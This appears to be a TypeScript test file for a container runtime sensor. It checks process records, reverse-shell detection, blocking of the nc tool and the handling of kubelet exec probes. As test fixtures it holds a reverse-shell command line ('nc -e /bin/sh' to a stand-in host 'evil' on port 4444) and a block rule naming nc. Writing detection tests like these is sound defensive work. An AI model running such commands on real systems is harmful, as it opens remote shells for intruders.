/**
 * WatchPipeline: capture events in, records out, in order, as the sidecar emits them; the
 * policy's controls and enforcement between. /proc facts and kill(2) are stand-ins here
 * (test/integration/ runs the whole program against the real kernel).
 */
import assert from "node:assert/strict";
import type { CaptureEvent } from "../../microenforcer/capture/events.ts";
import type { NetworkObservation } from "../../microenforcer/net/connection-reporter.ts";
import { WatchPipeline } from "../../microenforcer/pipeline/watch-pipeline.ts";
import { PolicyHolder } from "../../microenforcer/policy/policy-holder.ts";
import type { Stdio } from "../../microenforcer/proc/process-facts.ts";
import type { ProcSnapshot, ReadProblem } from "../../microenforcer/proc/reader.ts";
import type { SensorRecord } from "../../microenforcer/records/record.ts";
import { defaultPolicy, parsePolicies } from "../../policies/load.ts";

const selfPid = 50;
const policy = (spec: string) => parsePolicies(`apiVersion: microenforcer.dev/v1alpha1\nkind: RuntimePolicy\nmetadata: {name: p}\nspec:\n${spec}\n`, "p.yaml")[0]!;

function snapshot(pid: number, ppid: number, startTicks: number, exe: string, args: string[], over: Partial<ProcSnapshot> = {}): ProcSnapshot {
  return { pid, ppid, startTicks, comm: exe.split("/").pop()!, state: "S", uid: 1000, euid: 1000, exe: { path: exe, deleted: false, memfd: false }, args, problems: [], fingerprint: "", ...over };
}
const spawn = (s: ProcSnapshot, at = 1_000): CaptureEvent => ({ type: "spawn", snapshot: s, detection: "trigger", observedAt: at, image: "exec" });

function setup(inForce = new PolicyHolder(defaultPolicy()), probes: Record<string, string[][]> = {}) {
  let now = 1_000;
  let stdio: Stdio = { targets: [], inet: new Map() };
  const kills: Array<[number, number]> = [];
  const pipeline = new WatchPipeline(inForce, {
    clock: { bootMs: 1_700_000_000_000, ticksPerSecond: 100 },
    selfPid,
    facts: { stdio: () => stdio, denial: () => undefined },
    enforcer: {
      kill: (pid, startTicks) => {
        kills.push([pid, startTicks]);
        return "killed";
      },
    },
    now: () => now,
    probes,
  });
  return {
    pipeline,
    inForce,
    kills,
    setStdio: (next: Stdio) => (stdio = next),
    advance: (ms: number) => (now += ms),
    /** The records of these events, in order. */
    feed: (...events: CaptureEvent[]): SensorRecord[] => events.flatMap((e) => pipeline.handle(e)),
  };
}

const kinds = (records: SensorRecord[]): string[] => records.map((r) => `${r.eventName.replace("microenforcer.", "")} ${r.attributes["microenforcer.action"] ?? r.attributes["process.pid"] ?? ""}`.trim());

describe("WatchPipeline", () => {
  it("says how the sensor finds processes, its errors, and its gaps", () => {
    const { feed } = setup();
    const records = feed(
      { type: "trigger", mode: "scan", reason: "no ns_last_pid" },
      { type: "error", message: "EMFILE" },
      { type: "gap", kind: "pid", count: 3, firstPid: 20, lastPid: 22, since: 0, until: 10_000 },
    );
    assert.deepEqual(
      records.map((r) => [r.eventName, r.severity]),
      [
        ["microenforcer.sensor.status", "WARN"],
        ["microenforcer.sensor.status", "ERROR"],
        ["microenforcer.sensor.gap", "WARN"],
      ],
    );
    assert.equal(records[0]!.attributes["microenforcer.sensor.trigger"], "scan");
    assert.equal(records[2]!.attributes["microenforcer.gap.count"], 3);
  });

  it("says in a gap record how many PIDs were gone before their turn behind a burst, and how many waited at once", () => {
    const { feed } = setup();
    const [gap] = feed({ type: "gap", kind: "pid", count: 40, firstPid: 20, lastPid: 5100, since: 0, until: 10_000, late: 38, backlogPeak: 4_800 });
    assert.equal(gap!.attributes["microenforcer.gap.late"], 38);
    assert.equal(gap!.attributes["microenforcer.gap.backlog_peak"], 4_800);
    assert.match(gap!.body, /^40 PIDs .* not observed; 38 of them were gone before their turn came while the sensor read a burst of new PIDs \(up to 4800 waiting\)$/);
  });

  it("records a process's exec and exit with its container and origin, and never the sensor's own", () => {
    const { feed } = setup();
    const records = feed(
      spawn(snapshot(10, 0, 100, "/bin/sh", ["sh"], { container: "app" })),
      spawn(snapshot(selfPid, 0, 90, "/usr/bin/node", ["node"])),
      spawn(snapshot(11, 10, 101, "/usr/bin/curl", ["curl", "-s", "https://example.test"])),
      { type: "exit", pid: 11, startTicks: 101, observedAt: 2_000 },
      { type: "exit", pid: selfPid, startTicks: 90, observedAt: 2_000 },
    );
    assert.deepEqual(kinds(records), ["process.exec 10", "process.exec 11", "process.exit 11"]);
    assert.equal(records[1]!.attributes["k8s.container.name"], "app");
    assert.equal(records[1]!.attributes["process.command_line"], "curl -s https://example.test");
    assert.equal(records[0]!.attributes["microenforcer.exec.origin"], "container-init");
  });

  it("says once per cause what it may not read, before the record it concerns", () => {
    const { feed } = setup();
    const denied: ReadProblem = { file: "exe", code: "EACCES", uid: 0 };
    const records = feed(spawn(snapshot(10, 0, 100, "/bin/sh", ["sh"], { problems: [denied] })), spawn(snapshot(11, 10, 101, "/bin/ls", ["ls"], { problems: [denied] })));
    assert.deepEqual(kinds(records), ["sensor.status 10", "process.exec 10", "process.exec 11"]);
    assert.equal(records[0]!.attributes["microenforcer.status.cause"], "exe:EACCES:0");
  });

  it("kills a blocked executable in enforce mode and records the violation after its exec; a reloaded policy applies from the next event", () => {
    const { feed, kills, inForce } = setup(new PolicyHolder(policy("  enforcementMode: enforce\n  controls: {executables: {blocked: ['**/nc']}}")));
    assert.deepEqual(kinds(feed(spawn(snapshot(10, 0, 100, "/usr/bin/nc", ["nc", "-l"])))), ["process.exec 10", "policy.violation killed"]);
    assert.deepEqual(kills, [[10, 100]]);
    inForce.set(policy("  enforcementMode: audit\n  forensics: {processActivity: false}\n  controls: {executables: {blocked: ['**/nc']}}"));
    assert.deepEqual(kinds(feed(spawn(snapshot(11, 0, 200, "/usr/bin/nc", ["nc", "-l"])))), ["policy.violation alert"], "no exec record, and no kill");
    assert.deepEqual(kills, [[10, 100]]);
  });

  it("names a connection's owner, leaves out the sensor's own, and at the end gives up waiting for an unseen owner", () => {
    const { feed, pipeline } = setup();
    feed(spawn(snapshot(10, 0, 100, "/usr/bin/curl", ["curl"], { container: "app" })));
    const socket = { transport: "tcp" as const, family: "ipv4" as const, localAddress: "10.0.0.5", localPort: 40000, remoteAddress: "192.0.2.7", remotePort: 443, state: "ESTABLISHED", uid: 1000, inode: 7, row: "" };
    const connection = (pid: number, startTicks: number, inode: number): NetworkObservation => ({ kind: "connection", direction: "outbound", socket: { ...socket, inode }, owner: { pid, startTicks }, attribution: "process", detection: "change" });
    const records = feed({ type: "network", sample: { observations: [connection(10, 100, 7), connection(selfPid, 90, 8), connection(77, 700, 9)], problems: [], malformed: 0 }, observedAt: 1_000 });
    assert.deepEqual(kinds(records), ["network.connection 10"]);
    assert.equal(records[0]!.attributes["k8s.container.name"], "app");
    const last = pipeline.recheck(true);
    assert.deepEqual(kinds(last), ["network.connection 77"]);
    assert.match(last[0]!.body, /by pid 77$/);
  });

  it("looks again at interpreters and catches one whose stdio became a socket after its exec", () => {
    const { feed, pipeline, setStdio } = setup(new PolicyHolder(policy("  controls: {reverseShell: {}}")));
    feed(spawn(snapshot(10, 0, 100, "/bin/bash", ["bash"])));
    assert.deepEqual(pipeline.recheck(), []);
    setStdio({ targets: ["socket:[8]"], inet: new Map([[0, "tcp/10.0.0.9:4444"]]) });
    const records = pipeline.recheck();
    assert.deepEqual(kinds(records), ["policy.violation alert"]);
    assert.equal(records[0]!.attributes["microenforcer.control"], "reverseShell");
  });

  describe("the kubelet's exec probes", () => {
    const probe = ["/bin/sh", "-c", "test -f /tmp/ready"];
    const probes = { app: [probe] };
    const enforce = (forensics = "") => new PolicyHolder(policy(`  enforcementMode: enforce\n${forensics}  controls: {containerExec: {block: true}, executables: {blocked: ['**/nc']}}`));
    const init = spawn(snapshot(10, 0, 100, "/usr/bin/app", ["app"], { container: "app" }));
    const run = (pid: number, args = probe, container = "app") => spawn(snapshot(pid, 0, pid * 10, "/bin/sh", args, { container }));
    const end = (pid: number): CaptureEvent => ({ type: "exit", pid, startTicks: pid * 10, observedAt: 2_000 });

    it("a PPID-0 process running exactly one of its container's probes is a probe, never a containerExec finding or kill", () => {
      const { feed, kills } = setup(enforce("  forensics: {probes: record}\n"), probes);
      const records = feed(init, run(20), end(20));
      assert.deepEqual(kinds(records), ["process.exec 10", "process.exec 20", "process.exit 20"]);
      assert.equal(records[1]!.attributes["microenforcer.exec.origin"], "probe");
      assert.deepEqual(kills, []);
    });

    it("the same argv in another container, or another argv, is an exec session: found and killed", () => {
      const { feed, kills } = setup(enforce(), probes);
      feed(init, spawn(snapshot(30, 0, 101, "/usr/bin/db", ["db"], { container: "db" })));
      const records = feed(run(40, probe, "db"), run(41, ["/bin/sh", "-c", "test -f /tmp/ready; id"]), run(42, ["/bin/sh", "-c", "test -f /tmp/ready "]));
      assert.deepEqual(
        records.filter((r) => r.attributes["microenforcer.control"] === "containerExec").map((r) => r.attributes["process.pid"]),
        [40, 41, 42],
      );
      assert.deepEqual(kills, [[40, 400], [41, 410], [42, 420]]);
    });

    it("other controls still apply to what a probe runs", () => {
      const { feed, kills } = setup(enforce(), probes);
      const records = feed(init, run(20), spawn(snapshot(21, 20, 210, "/usr/bin/nc", ["nc", "-e", "/bin/sh", "evil", "4444"])));
      assert.deepEqual(kinds(records), ["process.exec 10", "process.exec 20", "process.exec 21", "policy.violation killed"]);
      assert.deepEqual(kills, [[21, 210]]);
    });

    it("summarize (the default): one exec record per probe command per 10 min, with the runs it stands for; no exit records", () => {
      const { feed, advance } = setup(new PolicyHolder(defaultPolicy()), probes);
      feed(init);
      const first = feed(run(20), end(20), run(21), end(21), run(22), end(22));
      assert.deepEqual(kinds(first), ["process.exec 20"]);
      assert.equal(first[0]!.attributes["microenforcer.probe.runs"], 1);
      advance(10 * 60 * 1000);
      const next = feed(run(23), end(23));
      assert.deepEqual(kinds(next), ["process.exec 23"]);
      assert.equal(next[0]!.attributes["microenforcer.probe.runs"], 3, "22, 21 and this one");
    });

    it("off: no record of the probe itself", () => {
      const { feed } = setup(new PolicyHolder(policy("  forensics: {probes: off}")), probes);
      assert.deepEqual(kinds(feed(init, run(20), end(20))), ["process.exec 10"]);
    });
  });
});
